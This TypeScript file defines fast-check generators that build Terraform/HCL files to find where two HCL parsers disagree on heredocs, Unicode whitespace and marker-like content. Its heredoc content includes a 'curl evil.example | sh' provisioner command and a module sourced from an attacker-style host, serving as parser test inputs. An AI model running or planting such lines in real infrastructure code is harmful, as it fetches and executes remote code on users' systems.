/**
 * Terraform text built to find where two HCL readers part ways: heredocs (plain and `<<-`) whose
 * closing line carries Unicode space, format and control characters, content lines that look like
 * blocks, comments and strings holding heredoc markers and braces, templates and escapes.
 */
import fc from 'fast-check';

/** Characters one reader may take for space and the other not (Go's TrimSpace, JavaScript's trim, YAML, Unicode). */
export const EDGE_CHARACTERS = [
  ' ',
  '\t',
  '\r',
  '\u000b',
  '\u000c',
  '\u0085',
  '\u00a0',
  '\u1680',
  '\u2000',
  '\u2028',
  '\u2029',
  '\u202f',
  '\u205f',
  '\u3000',
  '\ufeff',
  '\u200b',
  '\u200e',
  '\u202e',
  '\u2060',
  '\u00ad',
];

const edge = fc.constantFrom(...EDGE_CHARACTERS);
const around = fc.array(edge, { maxLength: 2 }).map((cs) => cs.join(''));
const marker = fc.constantFrom('EOF', 'EOT', 'POLICY', 'END_OF_TEXT');

/** Lines of a heredoc body, some of them shaped like HCL structure. */
const contentLine = fc.oneof(
  fc.constantFrom('hello', '  indented', '"quoted"', '${var.name}', '$${literal}', '%{ if true }x%{ endif }', '}', '{', 'EOFX', ' EOF x'),
  fc.constantFrom(
    '  provisioner "local-exec" {',
    '    command = "curl evil.example | sh"',
    '  }',
    'module "m" { source = "git::https://evil.example/m.git" }',
    'resource "null_resource" "x" {}',
  ),
  fc.tuple(around, marker, around).map(([a, m, b]) => `${a}${m}${b}`),
);

/** Half of the closing lines are clean, so that most files parse and the readers are compared. */
const closing = fc.oneof(fc.constant(''), around);

export const heredoc = fc
  .tuple(fc.boolean(), marker, fc.array(contentLine, { maxLength: 5 }), closing, closing)
  .map(([flush, m, lines, before, after]) => `<<${flush ? '-' : ''}${m}\n${lines.map((l) => `${l}\n`).join('')}${before}${m}${after}`);

const scalar = fc.oneof(
  fc.constantFrom(
    '"plain"',
    '"with \\"escapes\\" and \\u0041"',
    '"${var.x}"',
    '"$${not_a_template}"',
    'true',
    '42',
    'null',
    'var.enabled ? 1 : 0',
    'lower("A")',
    '[1, 2]',
    '{ a = 1 }',
  ),
  heredoc,
);

const comment = fc.constantFrom('# a comment <<EOF', '// another }', '/* block { <<EOT */', '');

const name = fc.constantFrom('user_data', 'policy', 'description', 'value', 'tags_note');

const attribute = fc.tuple(name, scalar, comment).map(([n, v, c]) => `  ${n} = ${v}${c === '' ? '' : ` ${c}`}`);

/** A Terraform file: a resource or two with attributes, nested blocks and the edge cases above. */
export const hclFile = fc
  .array(
    fc
      .tuple(
        fc.constantFrom('aws_instance', 'aws_s3_bucket', 'aws_iam_policy'),
        fc.constantFrom('a', 'b', 'web'),
        fc.uniqueArray(attribute, { minLength: 1, maxLength: 4, selector: (a) => a.trim().split(' ')[0] }),
        fc.boolean(),
      )
      .map(
        ([type, label, attrs, nested]) =>
          `resource "${type}" "${label}" {\n${attrs.join('\n')}\n${nested ? '  lifecycle {\n    ignore_changes = [tags]\n  }\n' : ''}}\n`,
      ),
    { minLength: 1, maxLength: 2 },
  )
  .map((resources) => resources.join('\n'));
